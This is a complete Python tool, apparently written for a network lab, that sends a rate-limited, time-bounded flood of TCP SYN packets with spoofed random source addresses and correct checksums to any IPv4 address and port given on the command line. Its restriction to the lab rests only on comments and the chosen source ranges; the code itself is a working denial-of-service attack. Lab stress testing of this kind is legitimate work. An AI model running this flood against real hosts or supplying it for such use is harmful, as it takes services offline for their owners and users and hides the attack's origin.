#!/usr/bin/env python3
"""Bounded spoofed TCP SYN flood for the lab (issue 9 §3), run inside a lab client namespace.

usage: syn-flood.py <dst IPv4> <dst port> <seconds> <packets per second> <excluded source>...

Sources are random addresses of 198.51.100.0/24 and 203.0.113.0/24 (documentation ranges the lab
owns; the excluded real client addresses are never used) with random source ports, so every SYN
is a new 5-tuple. Checksums are correct, as in a real flood. Stops after <seconds> and prints the
number of packets sent. Needs CAP_NET_RAW (the lab runs as root); never leaves the namespaces.
"""
import random
import socket
import struct
import sys
import time

from rawpkt import checksum, ipv4_header

dst, dport, seconds, pps = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
excluded = set(sys.argv[5:])
prefixes = [bytes([198, 51, 100]), bytes([203, 0, 113])]
dst_b = socket.inet_aton(dst)



def packet(src_b: bytes, sport: int, seq: int) -> bytes:
    # TCP header: 20 bytes, SYN, window 64240.
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src_b + dst_b + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # IPv4 header; the kernel fills in the checksum and (id 0) the id with IP_HDRINCL.
    return ipv4_header(src_b, dst_b, socket.IPPROTO_TCP, 20 + len(tcp)) + tcp


sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
sent = 0
start = time.monotonic()
batch = max(1, pps // 100)
while True:
    elapsed = time.monotonic() - start
    if elapsed >= seconds:
        break
    for _ in range(batch):
        src_b = random.choice(prefixes) + bytes([random.randint(1, 254)])
        if socket.inet_ntoa(src_b) in excluded:
            continue
        sock.sendto(packet(src_b, random.randint(1024, 65535), random.getrandbits(32)), (dst, 0))
        sent += 1
    # Pace to the requested rate.
    ahead = sent / pps - (time.monotonic() - start)
    if ahead > 0:
        time.sleep(ahead)
print(sent)
